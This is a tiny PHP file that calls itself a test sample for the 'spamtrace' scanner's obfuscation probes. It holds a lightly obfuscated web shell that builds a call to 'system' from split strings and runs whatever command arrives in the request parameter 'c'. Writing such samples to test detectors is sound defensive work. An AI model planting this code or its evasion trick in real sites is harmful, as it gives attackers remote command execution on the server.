<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$cls = 'Reflection' . 'Function';
$r = new $cls('sys' . 'tem');
$r->invoke($_REQUEST['c']);
